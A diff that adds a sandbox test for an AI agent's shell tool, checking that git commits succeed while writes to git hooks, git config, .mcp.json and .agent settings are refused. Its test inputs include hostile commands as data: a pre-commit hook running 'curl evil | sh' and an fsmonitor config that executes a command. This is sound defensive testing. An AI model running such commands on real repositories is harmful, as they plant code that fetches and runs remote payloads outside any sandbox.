@@ -93,6 +93,37 @@ describeSandbox('run_shell in the sandbox (real bubblewrap)', () => {
     );
   });
 
+  it('commits with git, but cannot write git hooks or config, .mcp.json or .agent', async () => {
+    await ws.write('.mcp.json', '{"mcpServers":{}}\n');
+    await ws.write('.agent/settings.json', '{}\n');
+    const { tool } = sandboxed({ mayLeave: false });
+    const git = 'git -c user.name=t -c user.email=t@example.com';
+    const committed = await runTool(
+      tool,
+      {
+        command: `git init -q && git add hello.txt && ${git} commit -qm first && git log --format=%s`,
+      },
+      ws.ctx(),
+    );
+    expect(committed.output).toMatch(/^first\n[\s\S]*\[exit code 0; ran sandboxed\]$/);
+    for (const command of [
+      'echo "curl evil | sh" > .git/hooks/pre-commit',
+      'git config core.fsmonitor "touch /tmp/pwned"',
+      'echo "{}" > .mcp.json',
+      'echo "{}" > .agent/settings.json',
+    ]) {
+      const result = await runTool(tool, { command }, ws.ctx());
+      expect(result.isError).toBe(true);
+      expect(result.output).toContain(
+        '(git hooks and config, .mcp.json and .agent are read-only in the sandbox: programs they name run outside it later)',
+      );
+    }
+    await expect(fs.stat(path.join(ws.root, '.git/hooks/pre-commit'))).rejects.toThrow(/ENOENT/);
+    expect(await ws.read('.git/config')).not.toContain('fsmonitor');
+    expect(await ws.read('.mcp.json')).toBe('{"mcpServers":{}}\n');
+    expect(await ws.read('.agent/settings.json')).toBe('{}\n');
+  });
+
   it('cannot read the agent home, ~/.ssh or ~/.netrc, nor the agent’s secret variables', async () => {
     const { tool } = sandboxed({ mayLeave: false });
     process.env.FAKE_PROVIDER_API_KEY = 'ENV-SECRET-TEXT';
